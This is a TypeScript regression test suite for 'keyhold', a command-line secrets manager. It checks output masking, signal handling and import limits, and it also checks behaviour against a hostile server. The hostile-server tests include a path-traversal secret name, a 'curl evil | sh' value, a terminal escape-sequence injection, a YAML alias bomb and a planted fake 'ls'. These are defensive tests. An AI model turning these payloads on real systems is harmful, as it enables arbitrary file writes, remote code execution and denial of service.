import { readFile, stat, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommand } from '../support/command.ts';
import { commandLine, openTerminal, startWithCommandLines } from '../support/keyhold-cli.ts';
import { type Ran, type RunOptions, runKeyhold } from '../support/keyhold-process.ts';
import { expectStatus, keepSecret, startSession } from '../support/people.ts';

/** Regressions that attacks on the command line and reviews have found. */

type World = Awaited<ReturnType<typeof startWithCommandLines<'ada' | 'grace'>>>;

let world: World;
const value = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';

beforeAll(async () => {
  world = await startWithCommandLines('ada', 'grace');
  await keepSecret(world.ada.person, { name: 'STRIPE_KEY', value });
});
afterAll(() => world.close());

const keyhold = (args: readonly string[], options: Partial<RunOptions> = {}): Promise<Ran> =>
  runKeyhold(args, { ...options, env: { ...world.ada.env, ...options.env } });
const run = (script: string, options: Partial<RunOptions> = {}): Promise<Ran> =>
  keyhold(['run', '--', 'sh', '-c', script], options);
const file = async (name: string, text: string): Promise<string> => {
  const path = join(world.directory, name);
  await writeFile(path, text);
  return path;
};
const valueKept = async (id: string): Promise<string> =>
  expectStatus(await world.ada.person.call('GET', `/secrets/${id}/value`), 200).body.value;

/** A server that sends whatever responses it likes. */
const hostile = async (answers: Readonly<Record<string, unknown>>) => {
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '', 'http://localhost').pathname;
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify(answers[path] ?? {}));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { env: { KEYHOLD_CLI_SERVER: url }, close: () => server.close() };
};

describe('run', () => {
  it('run reports lost output of the command and does not exit with 0', async () => {
    const lost = await run('seq 1000', { stdout: 'full' });
    expect(lost).toMatchObject({ code: 9, err: expect.stringContaining('no space is left') });
    expect(await run('seq 3')).toMatchObject({ code: 0, out: '1\n2\n3\n' });
  });

  it('run keeps the order of stdout and stderr when both go to the same place', async () => {
    const words = [...commandLine, 'run', '--', 'sh', '-c'].join(' ');
    const script = 'for i in 1 2 3; do echo "out$i"; echo "err$i" >&2; done';
    const both = await runCommand(['-c', `${words} '${script}' 2>&1 | cat`], {
      program: ['/bin/bash'],
      env: world.ada.env,
    });
    expect(both.out).toBe('out1\nerr1\nout2\nerr2\nout3\nerr3\n');
  });

  it('run masks output to a file while other output is a terminal, and prints the last bytes that did not become a value', async () => {
    const path = join(world.directory, 'stderr.log');
    const words = [...commandLine, 'run', '--', 'sh', '-c'].join(' ');
    const screen = openTerminal('/bin/bash', ['-c', `${words} 'echo "$STRIPE_KEY" >&2' 2> ${path}`], world.ada.env);
    await screen.ended;
    expect(await readFile(path, 'utf8')).toBe('[masked]\n');
    expect((await run(`printf %s ${value.slice(0, 9)}`)).out).toBe(value.slice(0, 9));
  });

  it('run writes no core dump of its own when its command dumps core', async () => {
    expect(await world.ada.run(['run', '--', 'sh', '-c', 'kill -QUIT $$'])).toMatchObject({ code: 131, signal: null });
  });

  it('run terminates on a signal even if only a background process still holds its output', async () => {
    const command = world.ada.start(['run', '--', 'sh', '-c', 'sleep 60 & echo $!; echo started']);
    const [, background = ''] = await command.prints(/^(\d+)\nstarted/);
    await new Promise((resolve) => setTimeout(resolve, 300));
    command.signal('SIGTERM');
    expect(await command.ended).toMatchObject({ code: null, signal: 'SIGTERM' });
    process.kill(Number(background));
  });

  it('run says what masking needs when it cannot create its pipes', async () => {
    const nowhere = { env: { TMPDIR: '/nonexistent' } };
    expect(await run('echo hi', nowhere)).toMatchObject({ code: 9, err: expect.stringContaining('--no-mask') });
    expect(await keyhold(['run', '--no-mask', '--', 'echo', 'hi'], nowhere)).toMatchObject({ code: 0, out: 'hi\n' });
  });

  it('run searches the system’s default path, not the current directory, when PATH is unset', async () => {
    await file('ls', '#!/bin/sh\necho ours\n');
    const command = `unset PATH; exec ${process.execPath} ${join(process.cwd(), commandLine[1])} run -- ls /`;
    const { out } = await runCommand(['-c', `cd ${world.directory}; chmod +x ls; ${command}`], {
      program: ['/bin/bash'],
      env: world.ada.env,
    });
    expect(out).toContain('bin\n');
  });
});

describe('against a hostile server', () => {
  const id = '01a20d9a-89ca-7333-b9df-41c3ae7a8f09';
  const secret = (name: unknown) => ({ id, name, access: 'owner', revision: 1, owner_id: id, scope: 'user' });

  it('edit writes only in its own directory, whatever the server calls a secret', async () => {
    const target = join(world.directory, 'planted');
    const server = await hostile({
      [`/api/v1/secrets/${id}`]: secret(`../../../../../../../../../..${target}`),
      [`/api/v1/secrets/${id}/value`]: { value: 'curl evil | sh' },
    });
    const { code } = await keyhold(['edit', id], { env: { ...server.env, EDITOR: 'true' } });
    server.close();
    expect(code).toBe(0);
    await expect(stat(target)).rejects.toThrow('ENOENT');
  });

  it('a hostile response cannot control the terminal, and a malformed one is not printed', async () => {
    const name = '\u001b]0;owned\u0007';
    const server = await hostile({
      '/api/v1/secrets': { secrets: [], damaged: [name], next_cursor: null },
      '/api/v1/secrets/reveal': { secrets: [{ asked: id, id, name: { toString: null }, value }] },
    });
    const listed = await keyhold(['ls'], { env: server.env });
    expect(listed.err).toContain('\\u{1b}]0;owned\\u{7}');
    expect(listed.err).not.toContain('\u001b');
    const crashed = await keyhold(['run', '--only', id, '--', 'true'], { env: server.env });
    server.close();
    expect(crashed.code).toBe(1);
    expect(crashed.err).toContain('unexpected');
    expect(crashed.err + crashed.out).not.toContain(value);
  });

  it('passwords and tokens are not sent to another machine unencrypted unless that is allowed', async () => {
    const elsewhere = 'http://192.0.2.2:8420';
    const env = { KEYHOLD_CLI_SERVER: elsewhere };
    const login = ['login', elsewhere, '--token-stdin'];
    expect(await keyhold(login, { input: 'kh_token' })).toMatchObject({
      code: 2,
      err: expect.stringMatching(/unencrypted/),
    });
    const list = ['token', 'list', '--password-stdin'];
    expect(await keyhold(list, { env, input: 'a password' })).toMatchObject({
      code: 2,
      err: expect.stringMatching(/unencrypted/),
    });
  });
});

describe('changes', () => {
  it('edit is refused when someone else has changed the value meanwhile', async () => {
    const { id } = await keepSecret(world.ada.person, { name: 'EDITED', value: 'before' });
    const other = await file('other', 'of another');
    const token = world.ada.env['KEYHOLD_CLI_TOKEN'];
    const editor = `sh -c 'KEYHOLD_CLI_TOKEN=${token} ${commandLine.join(' ')} set EDITED --file ${other} >&2; printf mine > "$1"' editor`;
    expect(await keyhold(['edit', 'EDITED'], { env: { EDITOR: editor } })).toMatchObject({ code: 6 });
    expect(await valueKept(id)).toBe('of another');
    expect(await keyhold(['edit', 'EDITED'], { env: { EDITOR: 'sh -c \'printf mine > "$1"\' editor' } })).toMatchObject(
      {
        code: 0,
      },
    );
    expect(await valueKept(id)).toBe('mine');
  });

  it('import imports all of a large file or nothing, and parts of it only with --chunked', async () => {
    const { grace } = world;
    const lines = Array.from({ length: 700 }, (_, at) => `MANY_${at}=v${at}\n`);
    await keepSecret(grace.person, { name: 'MANY_650' });
    const path = await file('many.env', lines.join(''));
    const refused = await grace.run(['import', path]);
    expect(refused).toMatchObject({
      code: 6,
      err: expect.stringContaining('Nothing was imported. Pass --on-conflict'),
    });
    const count = async () => expectStatus(await grace.person.call('GET', '/secrets/stats'), 200).body;
    expect((await count()).total).toBe(1);
    const parts = await grace.run(['import', path, '--chunked']);
    expect(parts).toMatchObject({ code: 6, err: expect.stringContaining('500 of 700 secrets were imported') });
    expect(parts.err).not.toContain('Nothing was imported');
    expect((await count()).total).toBe(501);
  });

  it('import puts secrets into a session only when the command line says so', async () => {
    await startSession(world.ada.person, [world.grace.person], { external_id: 'by-environment' });
    const path = await file('session.env', 'OF_THE_ENVIRONMENT=v\n');
    const env = { KEYHOLD_CLI_SESSION: 'by-environment' };
    expect((await keyhold(['import', path], { env })).code).toBe(0);
    const scopeOf = async (name: string) =>
      expectStatus(await world.ada.person.call('GET', `/secrets?q=${name}`), 200).body.secrets[0].scope;
    expect(await scopeOf('OF_THE_ENVIRONMENT')).toBe('user');
    const named = await file('named.env', 'OF_THE_COMMAND_LINE=v\n');
    expect((await keyhold(['import', named, '--session', 'by-environment'])).code).toBe(0);
    expect(await scopeOf('OF_THE_COMMAND_LINE')).toBe('session');
  });

  it('destructive commands need --yes where they cannot prompt', async () => {
    await startSession(world.ada.person, [], { external_id: 'not-ended' });
    for (const args of [
      ['session', 'end', 'not-ended'],
      ['rm', 'STRIPE_KEY'],
      ['migrate', 'down'],
    ]) {
      const env = args[0] === 'migrate' ? world.serviceEnv : {};
      expect(await keyhold(args, { env }), args[0]).toMatchObject({ code: 2, err: expect.stringContaining('--yes') });
    }
    expect((await keyhold(['session', 'show', 'not-ended'])).out).toContain('active');
    expect((await keyhold(['get', 'STRIPE_KEY'])).out).toBe(value);
  });

  it('migrate down is refused while a service uses the database', async () => {
    const { code, err } = await runKeyhold(['migrate', 'down', '--yes'], { env: world.serviceEnv });
    expect({ code, err }).toEqual({ code: 6, err: expect.stringContaining('Stop it first') });
    expect((await keyhold(['get', 'STRIPE_KEY'])).out).toBe(value);
  });

  it('--quiet hides notes and keeps warnings', async () => {
    expect(await keyhold(['set', 'QUIET', '--generate', '-q'])).toMatchObject({ code: 0, out: '', err: '' });
    expect((await keyhold(['set', 'QUIET', '--generate'])).err).toContain('QUIET');
    const exported = await keyhold(['export', join(world.directory, 'quiet.env'), '-q']);
    expect(exported.err).toContain('plain text');
  });
});

describe('input', () => {
  it('import refuses a YAML alias of a map or list, which could grow without end', async () => {
    const bomb = Array.from({ length: 12 }, (_, at) => `k${at}: &a${at} [${`*a${at - 1},`.repeat(at ? 9 : 0)} 1]\n`);
    const refused = await keyhold(['import', await file('bomb.yaml', bomb.join(''))]);
    expect(refused).toMatchObject({ code: 2, err: expect.stringContaining('alias') });
    const itself = await keyhold(['import', await file('itself.yaml', 'a: &a [*a]\n')]);
    expect(itself).toMatchObject({ code: 2, err: expect.stringContaining('alias') });
    const scalar = await file('scalar.yaml', 'FIRST_ALIAS: &a one\nSECOND_ALIAS: *a\n');
    expect((await keyhold(['import', scalar])).code).toBe(0);
    expect((await keyhold(['get', 'SECOND_ALIAS'])).out).toBe('one');
  });

  it('login reports an unwritable configuration directory before it asks for a password', async () => {
    const env = { KEYHOLD_CLI_CONFIG_DIR: '/proc/nope' };
    const login = ['login', world.service.url, '-u', 'ada', '--password-stdin'];
    expect(await keyhold(login, { env, input: 'x' })).toMatchObject({
      code: 9,
      err: expect.stringContaining('/proc/nope'),
    });
  });
});
